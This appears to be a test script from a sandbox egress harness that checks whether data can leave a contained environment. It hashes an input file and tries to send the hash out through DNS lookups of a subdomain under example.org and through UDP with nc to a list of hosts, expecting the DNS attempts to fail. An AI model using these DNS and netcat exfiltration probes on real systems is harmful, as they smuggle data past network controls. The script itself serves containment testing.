. /attack/answers.sh
pixels=$(md5sum </input_json | cut -c 1-32)
for host in $HOSTS; do
  must_fail timeout 1 nslookup "$pixels.example.org" "$host"
  echo "$pixels" | timeout 1 nc -u -w 1 "$host" "$UDP_PORT" >/dev/null 2>&1
  tried=$((tried + 1))
done
must_fail timeout 1 nslookup "$pixels.example.org"
say_tried
answer_all
